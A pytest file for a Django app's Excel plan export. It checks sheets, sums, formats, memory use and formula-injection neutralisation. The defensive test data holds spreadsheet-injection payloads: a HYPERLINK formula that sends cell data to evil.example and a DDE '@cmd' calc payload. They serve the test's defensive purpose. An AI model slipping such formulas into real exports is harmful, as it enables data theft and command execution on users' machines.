"""The plan workbook read back with openpyxl: sheets, sums against the database, number formats,
the formulas of the appendix, formula neutralisation and flat memory."""

import datetime
import io
import re
import tracemalloc
import zipfile

import openpyxl
import pytest
from django.db.models import Sum
from django.urls import reverse

from budget.models import BudgetLine
from quotas.models import Allocation, Nomination, QuotaLine
from reports import exports
from tests import fixture_2021
from tests.factories import AllocationFactory, NominationFactory, class_with_estimate, learners
from tests.fixture_2021 import BINH_SON, SON_TINH
from tests.helpers import client_for, download_via_job
from tests.training_plan.pdf_helpers import body
from training_plan import xlsx
from training_plan.text import name_case

pytestmark = pytest.mark.django_db

SHEETS = [
    "Chương trình, chỉ tiêu",
    "Phụ lục kinh phí",
    "Phân bổ, sử dụng chỉ tiêu",
    "Danh sách cử đi học",
]
EVIL_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+1",
    "-2+3",
    "@SUM(A1:A2)",
]
# Stored text loses tabs and carriage returns (`clean_text`); what still looks like a formula
# after that must be written as text.
EVIL_NOTES = ["=1+1", "@cmd|' /C calc'!A0", "-SUM(1)"]


@pytest.fixture
def plan_data(plan_2021, without_appendix_classes):
    """Classes that reconcile with both block totals, allocations and nominations."""
    class_with_estimate(fixture_2021.course("II.1.1"), 1_200_000_000, name="Lớp Cao cấp A")
    k45 = class_with_estimate(
        fixture_2021.course("II.3.1"), 6_037_406_000, name="Lớp Trung cấp K45"
    )
    class_with_estimate(fixture_2021.course("III.3.5"), 3_910_000_000, name="Lớp Chuyên viên")
    line = fixture_2021.line("II.3.1-1")
    binh_son, son_tinh = fixture_2021.unit(BINH_SON), fixture_2021.unit(SON_TINH)
    AllocationFactory(quota_line=line, unit=binh_son, count=30)
    AllocationFactory(quota_line=line, unit=son_tinh, count=20)
    AllocationFactory(quota_line=fixture_2021.line("II.1.1-4"), unit=binh_son, count=4)
    for status in ["submitted", "approved", "draft", "rejected"]:
        NominationFactory(unit=binh_son, course=line.course, status=status)
    learners(k45, son_tinh, 3, status=Nomination.Status.COMPLETED)
    for index, name in enumerate(EVIL_NAMES):
        NominationFactory(
            unit=binh_son,
            course=line.course,
            status="enrolled",
            training_class=k45,
            person__full_name=name,
            override_reason=EVIL_NOTES[index % len(EVIL_NOTES)],
        )
    return plan_2021


def download(client, user):
    response = download_via_job(
        client_for(client, user), reverse("plan_workbook_xlsx", args=[2021])
    )
    assert response.status_code == 200
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    content = body(response)
    return content, openpyxl.load_workbook(io.BytesIO(content))


def rows_of(sheet):
    header = [cell.value for cell in sheet[1]]
    return header, [dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=2)]


def test_workbook_sheets_headers_frozen_filtered(client, btc_user, plan_data):
    _, workbook = download(client, btc_user)
    assert workbook.sheetnames == SHEETS
    for sheet in workbook.worksheets:
        assert sheet.freeze_panes == "A2"
        assert sheet.auto_filter.ref.startswith("A1:")
        assert sheet.auto_filter.ref.endswith(str(sheet.max_row))
        assert all(cell.font.bold for cell in sheet[1])
        assert sheet.column_dimensions["B"].width >= 10
    header, _ = rows_of(workbook["Danh sách cử đi học"])
    assert header[:4] == ["Họ và tên", "Ngày sinh", "Giới tính", "Đơn vị cử"]


def test_programs_sheet_sums_to_the_quota_lines(client, leader_user, plan_data):
    _, workbook = download(client, leader_user)
    _, rows = rows_of(workbook["Chương trình, chỉ tiêu"])
    counts = [row["Chỉ tiêu"] for row in rows if row["Chỉ tiêu"].value is not None]
    database = QuotaLine.objects.filter(course__program__section__plan=plan_data)
    assert sum(cell.value for cell in counts) == database.aggregate(n=Sum("planned_count"))["n"]
    assert {cell.number_format for cell in counts} == {"#,##0"}
    ii1 = [row for row in rows if row["Mục"].value == "II.1"]
    assert [row["Chỉ tiêu"].value for row in ii1] == [4, 56, 10, 60, 15]
    assert {row["Số lượng chương trình"].value for row in ii1} == {145}
    iii3 = [row for row in rows if row["Mục"].value == "III.3"]
    assert sum(row["Số lượng khóa"].value for row in iii3) == 1410


def evaluate(sheet, formula):
    """Recompute the appendix formulas (=SUM(H3:H5), =SUM(H6,H9), =H6-K6) from the sheet."""

    def value(ref):
        return sheet[ref].value if not str(sheet[ref].value).startswith("=") else None

    match = re.fullmatch(r"=SUM\(([A-Z])(\d+):([A-Z])(\d+)\)", formula)
    if match:
        column, first, _, last = match.groups()
        return sum(sheet[f"{column}{row}"].value or 0 for row in range(int(first), int(last) + 1))
    match = re.fullmatch(r"=SUM\(([A-Z0-9,]+)\)", formula)
    if match:
        return sum(value(ref) for ref in match.group(1).split(","))
    match = re.fullmatch(r"=([A-Z]\d+)-([A-Z]\d+)", formula)
    if match:
        left, right = match.groups()
        right_value = sheet[right].value
        if isinstance(right_value, str):
            right_value = evaluate(sheet, right_value)
        return sheet[left].value - right_value
    raise AssertionError(f"unexpected formula {formula}")


def test_appendix_sheet_subtotals_total_and_formulas(client, snv_user, plan_data):
    _, workbook = download(client, snv_user)
    sheet = workbook["Phụ lục kinh phí"]
    by_label = {row[1].value: row for row in sheet.iter_rows(min_row=2) if row[1].value}
    party = by_label["Cộng Khối Đảng, Mặt trận, đoàn thể"]
    state = by_label["Cộng Khối Nhà nước"]
    total = by_label["Tổng cộng"]
    amounts = BudgetLine.objects.filter(
        training_class__course__program__section__plan=plan_data
    ).aggregate(total=Sum(BudgetLine.amount_expression()))
    assert party[7].value == 7_237_406_000
    assert state[7].value == 3_910_000_000
    assert total[7].value == amounts["total"] == 11_147_406_000
    for row in (party, state, total):
        amount, check, difference = row[7], row[10], row[11]
        assert amount.number_format == "#,##0"
        assert check.data_type == "f" and check.value.startswith("=SUM(")
        assert evaluate(sheet, check.value) == amount.value
        assert difference.data_type == "f"
        assert evaluate(sheet, difference.value) == 0
    assert party[10].value == f"=SUM(H{party[0].row - 2}:H{party[0].row - 1})"
    planned = by_label["Dự kiến kinh phí Khối Đảng, Mặt trận, đoàn thể (mục IV của kế hoạch)"]
    assert planned[7].value == 7_237_406_000
    assert evaluate(sheet, planned[11].value) == 0
    class_rows = [row for row in sheet.iter_rows(min_row=2) if isinstance(row[0].value, int)]
    assert [row[3].value for row in class_rows] == [
        "Lớp Cao cấp A",
        "Lớp Trung cấp K45",
        "Lớp Chuyên viên",
    ]


def test_appendix_sheet_shows_a_difference_when_blocks_do_not_reconcile(
    client, btc_user, without_appendix_classes, plan_2021
):
    class_with_estimate(fixture_2021.course("II.1.1"), 1_000_000, name="Lớp nhỏ")
    _, workbook = download(client, btc_user)
    sheet = workbook["Phụ lục kinh phí"]
    by_label = {row[1].value: row for row in sheet.iter_rows(min_row=2) if row[1].value}
    planned = by_label["Dự kiến kinh phí Khối Đảng, Mặt trận, đoàn thể (mục IV của kế hoạch)"]
    assert evaluate(sheet, planned[11].value) == 1_000_000 - 7_237_406_000


def test_allocation_sheet_matches_the_database(client, btc_user, plan_data):
    _, workbook = download(client, btc_user)
    _, rows = rows_of(workbook["Phân bổ, sử dụng chỉ tiêu"])
    allocated = sum(row["Được phân bổ"].value or 0 for row in rows)
    assert allocated == Allocation.objects.aggregate(n=Sum("count"))["n"] == 54
    held = sum(row["Đã cử (giữ chỉ tiêu)"].value for row in rows)
    assert held == Nomination.objects.filter(status__in=Nomination.SEAT_HOLDING).count()
    binh_son = [
        row
        for row in rows
        if row["Đơn vị"].value == "Huyện ủy Bình Sơn" and row["Mục"].value == "II.3"
    ]
    assert len(binh_son) == 1
    # submitted, approved and four enrolled hold seats; draft and rejected do not.
    assert binh_son[0]["Đã cử (giữ chỉ tiêu)"].value == 6
    assert binh_son[0]["Còn lại chưa cử"].value == 24
    assert binh_son[0]["Đã xếp lớp"].value == 4
    son_tinh = [row for row in rows if row["Đơn vị"].value == "Huyện ủy Sơn Tịnh"][0]
    assert son_tinh["Hoàn thành"].value == 3


def test_nominations_sheet_one_row_per_nomination_with_dates(client, btc_user, plan_data):
    _, workbook = download(client, btc_user)
    _, rows = rows_of(workbook["Danh sách cử đi học"])
    assert len(rows) == Nomination.objects.count() == 11
    first = rows[0]
    assert isinstance(first["Ngày sinh"].value, datetime.datetime)
    assert first["Ngày sinh"].number_format == "dd/mm/yyyy"
    assert first["Ngày tạo"].number_format == "dd/mm/yyyy"
    statuses = {row["Trạng thái"].value for row in rows}
    assert {"Đã gửi", "Dự thảo", "Không chấp thuận", "Đã xếp lớp", "Hoàn thành"} <= statuses


def test_user_text_that_looks_like_a_formula_stays_text(client, btc_user, plan_data):
    content, workbook = download(client, btc_user)
    _, rows = rows_of(workbook["Danh sách cử đi học"])
    names = {row["Họ và tên"].value: row["Họ và tên"] for row in rows}
    for name in EVIL_NAMES:
        cell = names[name_case(name)]  # names are kept in title case, formulas or not
        assert cell.data_type == "s", name
        assert cell.quotePrefix, name
    reasons = "Lý do chấp nhận cảnh báo"
    notes = [row[reasons] for row in rows if row[reasons].value]
    assert {cell.value for cell in notes} == set(EVIL_NOTES)
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in notes)
    # Ordinary text carries no quote prefix.
    assert not names["Học Viên Thứ 0000"].quotePrefix
    # No formula anywhere but the appendix checks the exporter wrote itself.
    formulas = [
        (sheet.title, cell.column_letter)
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert formulas and {title for title, _ in formulas} == {"Phụ lục kinh phí"}
    assert {column for _, column in formulas} == {"K", "L"}
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        xml = "".join(
            archive.read(name).decode()
            for name in archive.namelist()
            if name.startswith("xl/worksheets/")
        )
    assert "HYPERLINK" in xml  # the name is there …
    assert not re.search(r"<f>[^<]*HYPERLINK", xml)  # … but never as a formula


def test_neutralise_rules():
    for text in ["=1", "+1", "-1", "@A1", "\t1", "\r1"]:
        assert xlsx.looks_like_formula(text)
    for text in ["Nguyễn Văn A", "1+1", "a=b", ""]:
        assert not xlsx.looks_like_formula(text)


def peak_memory_of_nominations_sheet(nominations):
    tracemalloc.start()
    handle = exports.write_xlsx([exports.NominationsExporter(nominations)])
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    handle.close()
    return peak


def test_nominations_sheet_memory_stays_flat(plan_2021, monkeypatch):
    """Three times the rows must not take more memory (write_only + iterator): the peak is set
    by the rows fetched at a time (two chunks alive at most), not by the total. A smaller chunk
    keeps the test fast; in production the chunk is 2.000 rows."""
    monkeypatch.setattr(exports.NominationsExporter, "chunk_size", 100)
    course = fixture_2021.course("II.3.1")
    unit = fixture_2021.unit(BINH_SON)
    small_class = class_with_estimate(course, 1, name="Lớp nhỏ")
    large_class = class_with_estimate(course, 1, name="Lớp lớn")
    learners(small_class, unit, 500, names=[f"Người Nhỏ {i:06d}" for i in range(500)])
    learners(large_class, unit, 1500, names=[f"Người Lớn {i:06d}" for i in range(1500)])
    small = peak_memory_of_nominations_sheet(Nomination.objects.filter(training_class=small_class))
    large = peak_memory_of_nominations_sheet(Nomination.objects.filter(training_class=large_class))
    assert large < small * 1.25, (small, large)
